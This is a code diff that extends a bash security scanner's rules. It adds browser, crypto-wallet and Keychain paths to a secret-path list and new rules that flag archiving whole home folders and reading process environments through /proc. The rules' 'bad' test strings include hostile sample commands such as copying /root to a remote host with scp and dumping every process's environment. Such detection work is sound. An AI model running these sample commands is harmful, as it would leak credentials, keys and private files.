@@ -9,6 +9,8 @@ const SECRET_PATHS = [
   '(^|/)proc/([^/]{1,20}|\\*)/(environ|mem|maps|root|cwd/\\.env|fd)(/|$)',
   '(^|/)(var/)?run/secrets(/|$)',
   '(^|/)proc/(kcore|kallsyms|keys)$',
+  '(^|/)\\.(config/(google-chrome|chromium|BraveSoftware)|mozilla|bitcoin|electrum|ethereum)(/|$)',
+  'Library/Keychains',
 ];
 const READERS = [
   'cat',
@@ -152,6 +154,36 @@ export const bashPathRules: readonly Rule[] = [
       'cat environ.txt',
       "printf '%s\\n' '~/.ssh/id_rsa'",
     ],
+  },
+  {
+    id: 'sh/filesystem/packs-home',
+    languages: ['bash'],
+    severity: 'medium',
+    message: 'Packs or copies a whole home or system folder',
+    recommendation: 'Name the one folder that is needed',
+    metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+    tags: ['sensitive-path'],
+    match: {
+      call: ['tar', 'zip', '7z', 'rsync', 'scp', 'cpio', 'dump'],
+      where: { arg: 'any', regex: '^(/|~|/home|/root|/etc|/Users)(/[^/]{1,40})?/?\\*?$' },
+    },
+    bad: ['tar czf a.tgz ~', 'zip -r a.zip /home', 'scp -r /root/ a@example.org:'],
+    ok: ['tar czf a.tgz src', 'zip -r a.zip ./docs', 'tar xzf a.tgz -C /tmp/out', 'echo "tar ~"'],
+  },
+  {
+    id: 'sh/environment-secrets/process-environment',
+    languages: ['bash'],
+    severity: 'high',
+    message: 'Reads the environment or the memory of processes through /proc',
+    recommendation: 'Read single variables by name',
+    metadata: { capability: 'environment-secrets', cwe: 'CWE-214' },
+    tags: ['secrets', 'sensitive-path'],
+    match: [
+      { call: READERS, where: { arg: 'any', regex: '^/proc/[^/]{1,20}/(environ|mem|root)(/|$)' } },
+      { redirect: { operator: ['<', '<>'], target: { regex: '^/proc/[^/]{1,20}/(environ|mem|root)(/|$)' } } },
+    ],
+    bad: ['cat /proc/1/environ', "tr '\\0' '\\n' < /proc/self/environ", 'for p in /proc/*/environ; do cat "$p"; done'],
+    ok: ['cat /proc/self/status', 'cat /proc/meminfo', 'echo /proc/1/environ'],
   },
   {
     id: 'sh/filesystem/key-files',
